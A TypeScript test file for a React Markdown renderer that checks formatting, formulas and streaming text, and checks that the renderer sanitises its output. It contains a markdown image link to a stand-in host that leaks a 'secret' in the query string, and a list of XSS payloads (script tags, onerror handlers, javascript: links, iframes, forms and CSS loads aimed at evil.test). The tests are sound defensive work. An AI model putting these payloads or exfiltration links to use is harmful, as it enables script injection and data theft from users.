// @vitest-environment jsdom
import { cleanup, render, screen, waitFor } from '@testing-library/react'
import { afterEach, beforeAll, describe, expect, test } from 'vitest'
import { startTestTranslations } from '../../i18n/test-translations.ts'
import { Markdown } from './markdown.tsx'

beforeAll(startTestTranslations)
afterEach(cleanup)

describe('Markdown', () => {
  test('shows paragraphs, lists, tables and code', () => {
    render(<Markdown text={'# Title\n\n- one\n- two\n\n| a |\n|---|\n| b |\n\n```zig\nconst x = 1;\n```'} />)
    expect(screen.getByRole('heading', { name: 'Title' })).toBeDefined()
    expect(screen.getAllByRole('listitem').map(({ textContent }) => textContent)).toEqual(['one', 'two'])
    expect(screen.getByRole('cell', { name: 'b' })).toBeDefined()
    expect(screen.getByText('zig')).toBeDefined()
    expect(screen.getByText('const x = 1;').localName).toBe('pre')
    expect(screen.getByRole('button', { name: 'Copy' })).toBeDefined()
  })

  test('never fetches a picture of another host: a link names the host', () => {
    const { container } = render(<Markdown text="![chart](https://evil.test/leak?q=secret)" />)
    expect(container.querySelector('img')).toBeNull()
    const link = screen.getByRole('link', { name: 'Picture on evil.test: chart' })
    expect(link.getAttribute('rel')).toBe('noopener noreferrer')
  })

  test('shows a picture that this server keeps', () => {
    const own = (path: string) => new URL(path, document.baseURI).href
    const text = `![boat](${own('generated-images/5f.png')}) ![x](${own('api/traces')})`
    const { container } = render(<Markdown text={text} />)
    const shown = [...container.querySelectorAll('img')].map(({ src, alt }) => [src, alt])
    expect(shown).toEqual([[own('generated-images/5f.png'), 'boat']])
  })

  test('shows a picture that the text itself holds', () => {
    render(<Markdown text="![dot](data:image/png;base64,AAAA)" />)
    expect(screen.getByRole('img', { name: 'dot' })).toBeDefined()
  })

  test.each([
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    '[x](javascript:alert(1))',
    '[x](vbscript:alert(1))',
    '<iframe src="https://evil.test"></iframe>',
    '<style>body { background: url(https://evil.test) }</style>',
    '<p style="background: url(https://evil.test)">x</p>',
    '<form action="https://evil.test"><button>x</button></form>',
    '<svg><image href="https://evil.test/x"/></svg>',
    '<video src="https://evil.test/x" poster="https://evil.test/y"></video>',
    '<input type="image" src="https://evil.test/x">',
    '<math><mtext><img src=x onerror=alert(1)></mtext></math>',
    '<link rel=stylesheet href="https://evil.test/x.css"><base href="https://evil.test">',
  ])('leaves nothing that runs, loads or sends in %s', (text) => {
    const { container } = render(<Markdown text={`before\n\n${text}\n\nafter`} />)
    expect(container.textContent).toContain('after')
    for (const element of container.querySelectorAll('div > *')) {
      const name = element.localName
      expect(['script', 'iframe', 'style', 'form', 'svg', 'video', 'link', 'base', 'math', 'image']).not.toContain(name)
      for (const { name: attribute, value } of element.attributes) {
        expect(attribute).not.toMatch(/^on|^style$|^action$|^poster$|^srcset$/)
        if (attribute === 'src') expect(value).toMatch(/^data:image/)
        if (attribute === 'href') expect(value).toMatch(/^https?:/)
      }
    }
  })

  test('no text can borrow the looks of the interface', () => {
    const { container } = render(<Markdown text={'<div class="overlay" id="main">cover</div>'} />)
    expect(container.querySelector(':scope > div > div')?.attributes).toHaveLength(0)
  })

  test('shows the boxes of a task list', () => {
    render(<Markdown text={'- [x] done\n- [ ] open'} />)
    const boxes = screen.getAllByRole<HTMLInputElement>('checkbox')
    expect(boxes.map(({ checked, disabled }) => [checked, disabled])).toEqual([
      [true, true],
      [false, true],
    ])
  })

  test('definitions of links reach blocks before and after them', () => {
    render(<Markdown text={'[one][x]\n\n[x]: https://a.test/\n\nand [two][x]'} />)
    expect(screen.getAllByRole('link').map((link) => link.getAttribute('href'))).toEqual([
      'https://a.test/',
      'https://a.test/',
    ])
  })

  test('sets formulas once they are complete', async () => {
    const { container, rerender } = render(<Markdown isGrowing text={'It is $x^'} />)
    expect(container.textContent.trim()).toBe('It is $x^')
    rerender(<Markdown isGrowing text={'It is $x^2$ for $5 and $10.\n\n$$\\frac{a}{b}$$'} />)
    await waitFor(() => expect(container.querySelectorAll('math')).toHaveLength(2))
    expect(container.querySelector('p')?.textContent).toBe('It is x2 for $5 and $10.')
    expect(container.querySelector('math[display="block"] mfrac')).not.toBeNull()
  })

  test('shows a formula that cannot be read as it was written', async () => {
    const { container } = render(<Markdown text={'It is $\\nothing{x}$ and $y$'} />)
    await waitFor(() => expect(container.querySelectorAll('math')).toHaveLength(1))
    expect(container.textContent.trim()).toBe('It is $\\nothing{x}$ and y')
  })

  test('no code can pass for a formula', () => {
    render(<Markdown text={'<code class="maths-inline">x^2</code>\n\n`$y$`'} />)
    expect(screen.getAllByText(/x\^2|\$y\$/, { selector: 'code' })).toHaveLength(2)
  })

  test('keeps the elements of closed blocks while the text grows', () => {
    const { container, rerender } = render(<Markdown isGrowing text={'one\n\ntwo\n\nthr'} />)
    const first = container.querySelector('p')
    rerender(<Markdown isGrowing text={'one\n\ntwo\n\nthree **bold**'} />)
    expect(container.querySelector('p')).toBe(first)
    expect(screen.getByText('bold').localName).toBe('strong')
    rerender(<Markdown text={'one\n\ntwo\n\nthree **bold**'} />)
    expect(container.querySelector('p')).toBe(first)
  })
})
